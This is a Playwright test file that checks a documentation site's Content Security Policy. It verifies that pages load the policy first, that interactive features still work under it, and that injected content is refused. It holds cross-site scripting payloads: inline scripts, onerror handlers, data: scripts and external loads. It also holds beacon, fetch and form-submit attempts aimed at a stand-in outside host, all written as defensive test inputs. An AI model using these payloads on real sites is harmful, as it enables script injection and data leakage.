"""The policy of every page, in a real browser: it is in nobody's way, and nothing gets past it."""

import itertools
import mimetypes
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest

from bnbook.sphinxext import policy

SITE = "https://book.example.org"
OUTSIDE = "https://outside.example.org"
FIGURE = "fig1a-test-accuracy"
NOTEBOOK = "01_mnist_activation_shift"
# One page of each kind, by a pattern, and what a reader does there.
KINDS = {
    "index.html": None,
    "404.html": None,
    "ko-en/index.html": "edition",
    "ko/transform.html": None,  # the stepper
    "en/mnist.html": "dark",
    "ko/train-it-here.html": "train",
    f"en/figures/{FIGURE}.html": "plot",
    "en/claims/c-4.1-accuracy.html": "judge",
    "ko/search.html?q=학습률": "search",
    "en/notebooks/00_from_scratch.html": None,
    f"ko/notebooks/{NOTEBOOK}.html": None,
    f"en/embed/{FIGURE}.html": None,
    f"figures/{FIGURE}/*.html": None,
    "records/index.html": None,
    f"records/figures/{FIGURE}.html": None,
    "records/mnist_activation_shift/index.html": None,
    "records/mnist_activation_shift/bn/*/seed-0.html": None,
}
WATCH = """
  window.refused = [];
  addEventListener("securitypolicyviolation", (e) => refused.push(`${e.effectiveDirective} ${e.blockedURI}`));
"""


@dataclass
class Visit:
    page: Any
    said: list[str] = field(default_factory=list)  # by the browser, of the policy
    asked: list[str] = field(default_factory=list)  # outside


@pytest.fixture
def visit(html: Path, browser) -> Iterator:
    """visit(address, scheme, poison, **context): a page of the site, with `poison` as its first words."""
    contexts = []

    def visited(address: str, scheme: str = "https", poison: str = "", **options) -> Visit:
        context = browser.new_context(**{"bypass_csp": False, **options})
        contexts.append(context)
        context.add_init_script(WATCH)
        seen = Visit(context.new_page())

        def answer(route) -> None:
            url = urlsplit(route.request.url)
            if f"{url.scheme}://{url.netloc}" != SITE:
                seen.asked.append(route.request.url)
                return route.fulfill(body="", headers={"Access-Control-Allow-Origin": "*"})
            file = html / unquote(url.path).lstrip("/")
            if not file.is_file():
                return route.fulfill(status=404)
            body = file.read_bytes()
            if poison and route.request.is_navigation_request():
                body = re.sub(rb"<body[^>]*>", lambda found: found[0] + poison.encode(), body, count=1)
            route.fulfill(body=body, content_type=mimetypes.guess_type(file.name)[0])

        if scheme == "https":
            context.route("**/*", answer)
        seen.page.on("console", lambda m: "Content Security Policy" in m.text and seen.said.append(m.text))
        path, _, query = address.partition("?")
        found = min(html.glob(path)).relative_to(html).as_posix() + (f"?{query}" if query else "")
        seen.page.goto(f"{SITE if scheme == 'https' else html.as_uri()}/{found}")
        return seen

    yield visited
    for context in contexts:
        context.close()


def refused(page) -> list[str]:
    """What was refused by the time that all is loaded and drawn."""
    page.wait_for_load_state("load")
    return page.evaluate(
        "new Promise((done) => requestAnimationFrame(() => setTimeout(done))).then(() => refused)"
    )


def until(page, condition: str) -> None:
    """Waits for it; Playwright's own way evaluates text in the page, which the policy refuses."""
    page.evaluate(f"""new Promise((done) => {{
      const look = () => ({condition}) ? done() : setTimeout(look, 20);
      look();
    }})""")


# Everything has it


class Head(HTMLParser):
    """The elements up to the policy; `found` is what it says."""

    def __init__(self) -> None:
        super().__init__()
        self.before, self.found = [], ""

    def handle_starttag(self, tag: str, attributes: list) -> None:
        said = dict(attributes)
        if said.get("http-equiv") == "Content-Security-Policy":
            self.found = self.found or said["content"]
        elif not self.found:
            self.before.append(tag)


def test_every_page_begins_with_its_policy(html: Path) -> None:
    pages = sorted(html.rglob("*.html"))
    assert len(pages) > 1000
    allowed = {re.search('content="(.*)"', policy.meta(one))[1] for one in (policy.STILL, policy.LIVE)}
    for page in pages:
        head = Head()
        with page.open(encoding="utf-8") as stream:
            head.feed(stream.read(2000))
        assert head.found in allowed, page
        assert set(head.before) <= {"html", "head", "meta"}, page  # nothing comes before it


def test_the_policy_names_nobody_else() -> None:
    for directive, said in itertools.chain(policy.STILL.items(), policy.LIVE.items()):
        assert set(said.split()) <= {"'none'", "'self'", "file:", "data:", "blob:", "'unsafe-inline'"}
        assert directive == "style-src" or "unsafe" not in said
        assert directive == "img-src" or "data:" not in said


# It is in nobody's way


def do(page, what: str) -> None:
    if what == "edition":
        page.locator("a.bn-edition:not([aria-current])").first.click()
        page.wait_for_url(re.compile("/(ko|en)/index.html"))
    elif what == "dark":
        page.locator(".theme-switch-button:visible").first.click()
    elif what == "train":
        page.locator(".bn-tr[data-drawn]").wait_for()
        page.locator("[data-action=start]").click()
        begun = page.locator(".bn-tr-at").inner_text()
        until(page, f"document.querySelector('.bn-tr-at').innerText !== {begun!r}")
    elif what == "plot":
        page.locator("button.bn-plot-open").click()
        page.locator(".bn-plots canvas").first.wait_for()
        with page.expect_download():
            page.get_by_role("button", name="CSV").first.click()
        if page.url.startswith(SITE):  # of a local file no page may read another
            page.context.grant_permissions(["clipboard-write"])
            page.locator("button.bn-copy-image").first.click()
            until(page, "document.querySelector('.bn-live').textContent === 'Copied'")
    elif what == "judge":
        page.locator(".bn-judge input[name=level]").fill("90")
    elif what == "search":
        page.locator("#search-results li").first.wait_for()


@pytest.mark.parametrize("scheme", ["https", "file"])
@pytest.mark.parametrize("address", KINDS)
def test_a_page_does_what_it_does_within_its_policy(visit, address: str, scheme: str) -> None:
    seen = visit(address, scheme)
    if KINDS[address]:
        do(seen.page, KINDS[address])
    assert refused(seen.page) == [] and seen.said == [] and seen.asked == []


# It lets nothing through

POISON = f"""
  <script>window.ran = "script"</script>
  <img src="data:," onerror="window.ran = 'handler'">
  <img src="{OUTSIDE}/picture">
  <script src="{OUTSIDE}/script"></script>
  <script src="data:text/javascript,window.ran='data'"></script>
  <iframe src="{OUTSIDE}/frame"></iframe>
  <link rel="stylesheet" href="{OUTSIDE}/style">
  <p style="background: url({OUTSIDE}/background)">x</p>
  <object data="{OUTSIDE}/object"></object>
"""
REFUSED = {
    *("script-src-elem inline", "script-src-attr inline", "script-src-elem data"),
    *(f"img-src {OUTSIDE}/picture", f"img-src {OUTSIDE}/background", f"script-src-elem {OUTSIDE}/script"),
    *(f"style-src-elem {OUTSIDE}/style", f"frame-src {OUTSIDE}", f"object-src {OUTSIDE}"),
}
POISONED = [
    *("ko/index.html", "ko/search.html", "404.html", f"en/embed/{FIGURE}.html", f"figures/{FIGURE}/*.html"),
    "records/mnist_activation_shift/bn/*/seed-0.html",
]
NAMES = ("picture", "background", "script", "style", "frame", "object")


@pytest.mark.parametrize("address", POISONED)
def test_what_was_slipped_into_a_page_neither_runs_nor_asks_outside(visit, address: str) -> None:
    seen = visit(address, poison=POISON)
    assert set(refused(seen.page)) == REFUSED
    assert seen.page.evaluate("window.ran") is None and seen.asked == []


def test_without_the_policy_it_would_run_and_ask(visit) -> None:
    seen = visit("ko/index.html", poison=POISON, bypass_csp=True)
    assert seen.page.evaluate("window.ran")
    assert set(seen.asked) == {f"{OUTSIDE}/{name}" for name in NAMES}


ATTEMPTS = {
    "text as code": "setTimeout('window.ran = 1')",
    "a function of text": "setTimeout(() => { new Function('window.ran = 1')() })",
    "an address as code": "location.assign('javascript:void(window.ran = 1)')",
    "a worker of an address": "new Worker('data:text/javascript,').onerror = () => {}",
    "a request": f"fetch('{OUTSIDE}/request').catch(() => 0)",
    "a beacon": f"navigator.sendBeacon('{OUTSIDE}/beacon', 'x')",
    "a font": f"new FontFace('x', 'url({OUTSIDE}/font)').load().catch(() => 0)",
    "a form": f"document.body.insertAdjacentHTML('beforeend', '<form id=f action={OUTSIDE}>'), f.submit()",
    "another base": f"document.head.insertAdjacentHTML('beforeend', '<base href={OUTSIDE}>')",
}


@pytest.mark.parametrize("attempt", ATTEMPTS.values(), ids=ATTEMPTS)
def test_what_a_script_of_the_book_was_talked_into_is_refused(visit, attempt: str) -> None:
    seen = visit("ko/index.html")
    seen.page.evaluate(f"() => {{ {attempt}; }}")
    until(seen.page, "refused.length")
    assert seen.page.evaluate("window.ran") is None and seen.asked == []
    assert not seen.page.evaluate("document.baseURI").startswith(OUTSIDE)
